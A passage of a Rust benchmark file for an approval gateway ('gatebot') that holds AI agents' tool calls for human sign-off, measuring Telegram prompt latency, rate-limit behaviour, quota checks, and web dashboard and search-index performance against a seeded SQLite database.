    // Latency at low load: one request every 3.1 s, so neither gatebot's pacing (a call
    // per second in a chat) nor Telegram's 20 messages a minute delays a prompt.
    let fake = FakeTelegram::start(TG_TOKEN).await;
    let run = spawn_with_telegram(&fake, &[7001], "[agents.bench]\ntier = \"supervised\"\n").await;
    let client = Client::new(&run.agent);
    let since = Instant::now();
    while fake.calls("getMe").is_empty() {
        still_waiting(since, "getMe at the fake Telegram");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    // 20 by default (about a minute); `GATEBOT_BENCH_CHAT_SAMPLES` for a p99 that is
    // not just the slowest of twenty.
    let samples: usize = std::env::var("GATEBOT_BENCH_CHAT_SAMPLES")
        .ok()
        .and_then(|n| n.parse().ok())
        .unwrap_or(20);
    let (mut to_prompt, mut to_decision) = (Vec::new(), Vec::new());
    for i in 0..samples {
        let t = Instant::now();
        let res = client
            .post(
                "/v1/requests",
                &json!({"agent": "bench", "tool": "send_email", "args": {"n": i}}),
            )
            .await
            .unwrap();
        let id = res.body["id"].as_str().unwrap().to_string();
        let short = res.body["short_id"].as_str().unwrap().to_string();
        let (message, arrived) = prompt_arrives(&fake, 7001, &short).await;
        to_prompt.push(arrived - t);

        // The owner taps Allow once; the agent is long-polling for the decision.
        let waiter = {
            let client = client.clone();
            let id = id.clone();
            tokio::spawn(async move {
                client
                    .get(&format!("/v1/requests/{id}?wait=30"))
                    .await
                    .unwrap()
            })
        };
        tokio::time::sleep(Duration::from_millis(20)).await; // the long-poll is in place
        let t = Instant::now();
        fake.press(OWNER, 7001, message, &format!("gb1:a:{id}"));
        let got = waiter.await.unwrap();
        assert_eq!(got.body["status"], "approved");
        to_decision.push(t.elapsed());
        tokio::time::sleep(Duration::from_millis(3100)).await;
    }
    to_prompt.sort();
    to_decision.sort();
    println!(
        "submit -> prompt at the fake Telegram ({samples} requests): p50 {:>9.2?}  p99 {:>9.2?}",
        percentile(&to_prompt, 0.5),
        percentile(&to_prompt, 0.99)
    );
    println!(
        "button tap -> waiting agent decided ({samples} taps):    p50 {:>9.2?}  p99 {:>9.2?}",
        percentile(&to_decision, 0.5),
        percentile(&to_decision, 0.99)
    );
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();

    // A burst of 1 000 requests from 64 agents against a fake that enforces Telegram's
    // documented limits (1 message/s per chat, 20/min per group, 30/s overall) with 429s.
    let fake = FakeTelegram::start(TG_TOKEN).await;
    fake.enforce_limits();
    let chats = [7001i64, -5001];
    let run = spawn_with_telegram(&fake, &chats, "[agents.bench]\ntier = \"supervised\"\n").await;
    let since = Instant::now();
    while fake.calls("getMe").is_empty() {
        still_waiting(since, "getMe at the fake Telegram");
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    let db_path = run.agent.parent().unwrap().join("gatebot.db");
    let total = 1000usize;
    let start = Instant::now();
    let mut tasks = Vec::new();
    for a in 0..64usize {
        let client = Client::new(&run.agent);
        tasks.push(tokio::spawn(async move {
            for i in (a..total).step_by(64) {
                let res = client
                    .post(
                        "/v1/requests",
                        &json!({"agent": "bench", "tool": "send_email", "args": {"n": i}}),
                    )
                    .await
                    .unwrap();
                assert_eq!(res.body["status"], "pending");
            }
        }));
    }
    for t in tasks {
        t.await.unwrap();
    }
    let submitted = start.elapsed();
    let db = rusqlite::Connection::open(&db_path).unwrap();
    db.busy_timeout(Duration::from_secs(5)).unwrap();
    let mut reachable = Vec::new();
    for chat in chats {
        loop {
            let unshown: i64 = db
                .query_row(
                    "SELECT COUNT(*) FROM approvals a WHERE a.status = 'pending' AND NOT EXISTS \
                     (SELECT 1 FROM cards c WHERE c.subject = a.id AND c.platform = 'telegram' \
                      AND c.chat = ?1 AND c.message IS NOT NULL)",
                    [chat.to_string()],
                    |r| r.get(0),
                )
                .unwrap();
            if unshown == 0 {
                break;
            }
            still_waiting(start, "every request shown in the chat");
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        reachable.push(start.elapsed());
    }
    let posted = fake.posted();
    let digests = posted
        .iter()
        .filter(|(_, _, p)| p["text"].as_str().unwrap_or("").contains("gatebot digest"))
        .count();
    println!(
        "burst of {total} requests from 64 agents: all submitted in {submitted:.2?}; every request reachable \
         in the private chat after {:.2?} and in the group after {:.2?}",
        reachable[0], reachable[1]
    );
    println!(
        "  messages posted: {} ({} digests, {} single prompts) for {total} requests in 2 chats; 429s provoked: {}",
        posted.len(),
        digests,
        posted.len() - digests,
        fake.rate_limited()
    );
    println!(
        "  rate-limit floor for one message per request: {total} s in a private chat (1/s), {} min in a group (20/min)",
        total / 20
    );
    run.stop.send(()).unwrap();
    run.task.await.unwrap().unwrap();
}

/// What the submit path adds for limits and idempotency keys: one take from an agent's
/// buckets (its kind's and its bytes'), the check of the room agents may fill (page
/// count less free pages, in the write's transaction), and the content hash a request
/// sent with an idempotency key is stored with.
fn quotas() {
    use gatebot::limits::{Quota, Quotas, Taken, DEFAULT_LIMITS};
    println!("\n## quotas and idempotency hashes on the submit path, per call");
    let q = Quotas::default();
    let n = 1_000_000u32;
    let start = Instant::now();
    for i in 0..n {
        let t = q.take(
            "bench",
            false,
            &DEFAULT_LIMITS,
            Quota::Requests,
            200,
            Instant::now(),
        );
        // The default burst runs out: refusals cost the same check.
        std::hint::black_box(matches!(t, Taken::Ok) || i > 0);
    }
    println!(
        "bucket take (requests and bytes), one thread     {:>10.2?} per call",
        start.elapsed() / n
    );
    let per_thread = 500_000u32;
    let q = std::sync::Arc::new(Quotas::default());
    let start = Instant::now();
    let threads: Vec<_> = (0..2)
        .map(|t| {
            let q = q.clone();
            std::thread::spawn(move || {
                let agent = format!("bench{t}");
                for _ in 0..per_thread {
                    std::hint::black_box(q.take(
                        &agent,
                        false,
                        &DEFAULT_LIMITS,
                        Quota::Events,
                        200,
                        Instant::now(),
                    ));
                }
            })
        })
        .collect();
    for t in threads {
        t.join().unwrap();
    }
    println!(
        "bucket take, two threads at once (one lock)      {:>10.2?} per call",
        start.elapsed() / (2 * per_thread)
    );

    let dir = tempfile::tempdir().unwrap();
    let conn = rusqlite::Connection::open(dir.path().join("room.db")).unwrap();
    conn.pragma_update(None, "journal_mode", "WAL").unwrap();
    conn.execute_batch("CREATE TABLE t (b TEXT); INSERT INTO t VALUES (randomblob(100000));")
        .unwrap();
    let n = 200_000u32;
    let start = Instant::now();
    for _ in 0..n {
        let used: i64 = conn
            .prepare_cached(
                "SELECT p.page_count - f.freelist_count \
                 FROM pragma_page_count() AS p, pragma_freelist_count() AS f",
            )
            .unwrap()
            .query_row([], |r| r.get(0))
            .unwrap();
        std::hint::black_box(used);
    }
    println!(
        "room check (used pages of the database)          {:>10.2?} per write",
        start.elapsed() / n
    );

    let typical = json!({"tool": "send_email", "args": {"to": ["ann@example.com"], "subject": "Your quote",
        "body": "Hi Ann, the price is $49 per seat. See https://example.com/pricing."}, "summary": "Reply to Ann"});
    let big = json!({"tool": "Write", "args": {"file_path": "/src/main.rs", "content": "fn main() {}\n".repeat(4_700)}});
    for (name, v, n) in [
        ("typical (230 B)", &typical, 200_000u32),
        ("60 KB", &big, 2_000),
    ] {
        let start = Instant::now();
        for _ in 0..n {
            std::hint::black_box(gatebot::bench_internals::content_hash(v));
        }
        println!(
            "content hash of a keyed request, {name:<16} {:>10.2?} per call",
            start.elapsed() / n
        );
    }
}

/// Requests the dashboard benchmark's database holds besides the pending ones.
const HISTORY_ROWS: usize = 100_000;
/// Pending requests in it (the newest).
const PENDING_ROWS: usize = 1_000;

/// Writes [`HISTORY_ROWS`] settled requests over the last 30 days (ten outcomes, twenty
/// agents, five tools; one oldest request alone says "zebra") and [`PENDING_ROWS`]
/// pending ones, each with the subject row the store writes beside a pending request,
/// straight into the database at `db` (made by the daemon, not running).
fn seed_history(db: &Path) {
    let mut conn = rusqlite::Connection::open(db).unwrap();
    let tx = conn.transaction().unwrap();
    let now = gatebot::time::now_ms();
    let tools = [
        ("send_email", "destructive", "high"),
        ("Bash", "destructive", "critical"),
        ("query_org_data", "read-only", "low"),
        ("create_contact", "write", "medium"),
        ("Write", "write", "medium"),
    ];
    let outcomes = [
        "allowed",
        "allowed",
        "allowed",
        "allowed",
        "allowed",
        "approved",
        "rejected",
        "expired",
        "succeeded",
        "blocked",
    ];
    {
        let mut approval = tx
            .prepare(
                "INSERT INTO approvals (id, short_id, agent, tool, args, summary, status, \
                 risk_score, tool_class, risk_factors, policy_reason, decided_by, decided_via, \
                 decision_reason, ttl_ms, created_at, decided_at, expires_at) \
                 VALUES (?1, ?2, ?3, ?4, ?5, ?6, ?7, ?8, ?9, '[]', 'bench', ?10, ?11, ?12, \
                 3600000, ?13, ?14, ?15)",
            )
            .unwrap();
        let mut subject = tx
            .prepare(
                "INSERT INTO subjects (id, kind, short_id, open, revision, created_at) \
                 VALUES (?1, 'approval', ?2, 1, 'pending', ?3)",
            )
            .unwrap();
        let total = HISTORY_ROWS + PENDING_ROWS;
        for i in 0..total {
            let pending = i >= HISTORY_ROWS;
            // Spread over 30 days, oldest first; the pending ones in the last minutes.
            let created = now - 30 * 86_400_000 + (i as i64) * (30 * 86_400_000 / total as i64);
            let id = ulid::Ulid::from_parts(created as u64, i as u128).to_string();
            let short = format!("b{i:07}");
            let (tool, class, risk) = tools[i % tools.len()];
            let status = if pending {
                "pending"
            } else {
                outcomes[i % outcomes.len()]
            };
            let word = if i == 0 { "zebra" } else { "invoice" };
            let args = json!({"to": format!("customer{i}@example.com"),
                "subject": format!("Your {word} {i}"),
                "body": "Hello, please find attached what we discussed. Regards"})
            .to_string();
            let decided = matches!(status, "approved" | "rejected" | "expired" | "succeeded");
            let (by, via, reason) = match status {
                "expired" => (
                    Some("gatebot"),
                    Some("system"),
                    Some("no response within 1 h"),
                ),
                "rejected" => (
                    Some("alice"),
                    Some("telegram"),
                    Some("not to this customer"),
                ),
                _ if decided => (Some("alice"), Some("dashboard"), None),
                _ => (None, None, None),
            };
            approval
                .execute(rusqlite::params![
                    id,
                    short,
                    format!("agent-{}", i % 20),
                    tool,
                    args,
                    format!("Send customer {i} their {word}"),
                    status,
                    risk,
                    class,
                    by,
                    via,
                    reason,
                    created,
                    decided.then_some(created + 90_000),
                    created + 3_600_000,
                ])
                .unwrap();
            if pending {
                subject
                    .execute(rusqlite::params![id, short, created])
                    .unwrap();
            }
        }
    }
    tx.commit().unwrap();
}

/// One whole HTTP/1.1 GET of `path` on a new connection, as a browser's first visit
/// makes it: connect, send, read the answer to its end. Returns the status.
async fn get_page(addr: std::net::SocketAddr, cookie: &str, path: &str) -> u16 {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let req = format!(
        "GET {path} HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\nCookie: gatebot_session={cookie}\r\n\r\n"
    );
    s.write_all(req.as_bytes()).await.unwrap();
    let mut raw = Vec::with_capacity(64 * 1024);
    s.read_to_end(&mut raw).await.unwrap();
    std::str::from_utf8(&raw[9..12]).unwrap().parse().unwrap()
}

/// A session cookie for the dashboard at `addr`: a link asked for on the control socket,
/// used up by the sign-in form's POST.
async fn dashboard_cookie(control: &Path, addr: std::net::SocketAddr) -> String {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let owner = Client::new(control);
    let link = owner.post("/v1/dashboard/links", &json!({})).await.unwrap();
    let url = link.body["url"].as_str().unwrap().to_string();
    let token = url.rsplit('/').next().unwrap();
    let body = format!("token={token}");
    let mut s = tokio::net::TcpStream::connect(addr).await.unwrap();
    let req = format!(
        "POST /login HTTP/1.1\r\nHost: {addr}\r\nConnection: close\r\n\
         Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
        body.len()
    );
    s.write_all(req.as_bytes()).await.unwrap();
    let mut raw = String::new();
    s.read_to_string(&mut raw).await.unwrap();
    let at = raw.find("gatebot_session=").expect("a session cookie") + 16;
    raw[at..].split(';').next().unwrap().to_string()
}

/// The web dashboard: whole GETs of its pages against an in-process daemon whose
/// database holds 100 000 settled requests and 1 000 pending, each figure beside the
/// same server's stylesheet (no database) as the baseline of the run.
async fn dashboard() {
    println!(
        "\n## the web dashboard: whole HTTP GETs, {HISTORY_ROWS} settled and {PENDING_ROWS} pending requests"
    );
    let dir = tempfile::tempdir().unwrap();
    let port = std::net::TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port();
    let cfg = dir.path().join("bot.toml");
    std::fs::write(
        &cfg,
        format!(
            "[agents.bench]\ntier = \"supervised\"\n[dashboard]\nlisten = \"127.0.0.1:{port}\"\n"
        ),
    )
    .unwrap();
    let config = Config::load(&cfg).unwrap();
    let control = config.queue.control_socket.clone();
    let agents = Client::new(config.queue.socket.clone());
    gatebot::engine::open_database(&config.store.path).unwrap();
    let t = Instant::now();
    seed_history(&config.store.path);
    println!("(seeded in {:.1?})", t.elapsed());
    let app = App::build(config).await.unwrap();
    let addr = app.dashboard_addr().unwrap();
    let (stop, rx) = tokio::sync::oneshot::channel::<()>();
    let task = tokio::spawn(app.run_until(async {
        let _ = rx.await;
    }));
    let cookie = dashboard_cookie(&control, addr).await;
    // The daemon's indexer reads the seeded requests into the search index (searches are
    // right meanwhile, only slower): wait for it, and say how long it took.
    let db = rusqlite::Connection::open(dir.path().join("gatebot.db")).unwrap();
    let t = Instant::now();
    loop {
        let done: bool = db
            .query_row(
                "SELECT indexed_through = (SELECT max(rowid) FROM approvals) \
                 FROM approvals_search_state",
                [],
                |r| r.get(0),
            )
            .unwrap();
        if done {
            break;
        }
        still_waiting(t, "the search index");
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    println!(
        "(the search index read the {} requests in {:.1?})",
        HISTORY_ROWS + PENDING_ROWS,
        t.elapsed()
    );
    let samples = 200;
    let measure = |path: String| {
        let cookie = cookie.clone();
        async move {
            for _ in 0..10 {
                assert_eq!(get_page(addr, &cookie, &path).await, 200, "{path}");
            }
            let mut lat = Vec::with_capacity(samples);
            for _ in 0..samples {
                let t = Instant::now();
                get_page(addr, &cookie, &path).await;
                lat.push(t.elapsed());
            }
            lat.sort();
            (percentile(&lat, 0.5), percentile(&lat, 0.99))
        }
    };
    let (base50, base99) = measure("/assets/app.css".into()).await;
    println!(
        "{:<58} p50 {base50:>9.2?}  p99 {base99:>9.2?}",
        "baseline: the stylesheet (no database)"
    );
    // The id of a request half-way down the history: a page deep in it.
    let deep =
        ulid::Ulid::from_parts((gatebot::time::now_ms() - 15 * 86_400_000) as u64, 0).to_string();
    for (name, path) in [
        (
            "pending page, 1 000 pending (first 50 cards)",
            "/".to_string(),
        ),
        ("history, first page", "/history".to_string()),
        (
            "history, a page half-way down (keyset)",
            format!("/history?after={deep}"),
        ),
        (
            "history search, a word in most rows (invoice)",
            "/history?q=invoice".to_string(),
        ),
        (
            "history search, a word in one row, the oldest (zebra)",
            "/history?q=zebra".to_string(),
        ),
        (
            "history search, two words (agent-7 zebra: no row)",
            "/history?q=agent-7+zebra".to_string(),
        ),
        (
            "history search, a 2-letter word (no index; no row has it)",
            "/history?q=qz".to_string(),
        ),
        (
            "history search, a common word and filters no row meets",
            "/history?q=invoice&agent=agent-7&status=rejected".to_string(),
        ),
        (
            "history, one agent's denials",
            "/history?agent=agent-7&status=rejected".to_string(),
        ),
        (
            "history, high risk or worse in the last 24 h",
            "/history?risk=high&since=24h".to_string(),
        ),
        (
            "history search in the last hour (customer)",
            "/history?q=customer&since=1h".to_string(),
        ),
        ("audit trail, first page", "/audit".to_string()),
        ("system page", "/system".to_string()),
    ] {
        let (p50, p99) = measure(path).await;
        println!(
            "{name:<58} p50 {p50:>9.2?}  p99 {p99:>9.2?}  (p50 {:.1}x the baseline's)",
            p50.as_secs_f64() / base50.as_secs_f64()
        );
    }
    live_update(addr, &cookie, &agents, base50).await;
    stop.send(()).unwrap();
    task.await.unwrap().unwrap();
    search_index_cost();
}

/// An open pending page following a new request: from an agent's submit to the page's
/// stream carrying its `change` and the list fetched again (as the page's script does),
/// an upper bound of "event → page update" (the submit's own commit is in it).
async fn live_update(addr: std::net::SocketAddr, cookie: &str, agents: &Client, base50: Duration) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let mut stream = tokio::net::TcpStream::connect(addr).await.unwrap();
    let req =
        format!("GET /events HTTP/1.1\r\nHost: {addr}\r\nCookie: gatebot_session={cookie}\r\n\r\n");
    stream.write_all(req.as_bytes()).await.unwrap();
    let mut seen = String::new();
    let mut buf = [0u8; 8192];
    while !seen.contains("text/event-stream") {
        let n = stream.read(&mut buf).await.unwrap();
        seen.push_str(&String::from_utf8_lossy(&buf[..n]));
    }
    let mut lat = Vec::new();
    for n in 0..100 {
        let t = Instant::now();
        let res = agents
            .post(
                "/v1/requests",
                &json!({"agent": "bench", "tool": "send_email", "args": {"live": n}}),
            )
            .await
            .unwrap();
        let id = res.body["id"].as_str().unwrap().to_string();
        while !seen.contains(&id) {
            let n = stream.read(&mut buf).await.unwrap();
            assert!(n > 0, "the event stream ended");
            seen.push_str(&String::from_utf8_lossy(&buf[..n]));
        }
        assert_eq!(get_page(addr, cookie, "/pending/list").await, 200);
        lat.push(t.elapsed());
        seen.clear();
    }
    lat.sort();
    let (p50, p99) = (percentile(&lat, 0.5), percentile(&lat, 0.99));
    println!(
        "{:<58} p50 {p50:>9.2?}  p99 {p99:>9.2?}  (p50 {:.1}x the baseline's)",
        "submit → event on the page's stream → list fetched again",
        p50.as_secs_f64() / base50.as_secs_f64()
    );
}

/// What the history's search index costs: nothing when a request is written (it is
/// indexed later, in batches); when an indexed request is decided with a reason, the
/// trigger that marks its entry stale (20 000 decisions, against the same database
/// without that trigger); and a pass of the indexer, per request.
fn search_index_cost() {
    use gatebot::bench_internals::Store;
    let dir = tempfile::tempdir().unwrap();
    let mut decided = Vec::new();
    for stale_trigger in [false, true] {
        let db = dir.path().join(format!("index-{stale_trigger}.db"));
        gatebot::engine::open_database(&db).unwrap();
        let mut conn = rusqlite::Connection::open(&db).unwrap();
        if !stale_trigger {
            conn.execute_batch("DROP TRIGGER approvals_search_stale")
                .unwrap();
        }
        let n = 20_000;
        let tx = conn.transaction().unwrap();
        for i in 0..n {
            tx.prepare_cached(
                "INSERT INTO approvals (id, short_id, agent, tool, args, summary, status, \
                 risk_score, tool_class, risk_factors, policy_reason, created_at) \
                 VALUES (?1, ?2, 'mailer', 'send_email', ?3, ?4, 'pending', 'high', \
                 'destructive', '[]', 'bench', 0)",
            )
            .unwrap()
            .execute(rusqlite::params![
                ulid::Ulid::from_parts(1, i as u128).to_string(),
                format!("s{i:07}"),
                json!({"to": format!("customer{i}@example.com"), "subject": format!("Your invoice {i}"),
                    "body": "Hello, please find attached what we discussed. Regards"})
                .to_string(),
                format!("Send customer {i} their invoice"),
            ])
            .unwrap();
        }
        tx.commit().unwrap();
        let store = Store::open(&db).unwrap();
        let t = Instant::now();
        assert_eq!(store.index_history(n as usize).unwrap(), n as usize);
        let pass = t.elapsed() / n;
        let tx = conn.transaction().unwrap();
        let t = Instant::now();
        for i in 0..n {
            tx.prepare_cached(
                "UPDATE approvals SET status = 'rejected', decision_reason = 'not to this customer' \
                 WHERE short_id = ?1",
            )
            .unwrap()
            .execute([format!("s{i:07}")])
            .unwrap();
        }
        decided.push(t.elapsed() / n);
        tx.commit().unwrap();
        if stale_trigger {
            let t = Instant::now();
            store.index_history(n as usize).unwrap();
            println!(
                "search index: a pass indexing 20 000 new requests {pass:>9.2?} per request; \
                 re-indexing 20 000 decided ones {:>9.2?} per request",
                t.elapsed() / n
            );
        }
    }
    println!(
        "search index: deciding an indexed request {:>9.2?} (without the stale-marking trigger {:>9.2?}); writing a request: nothing",
        decided[1], decided[0]
    );
}
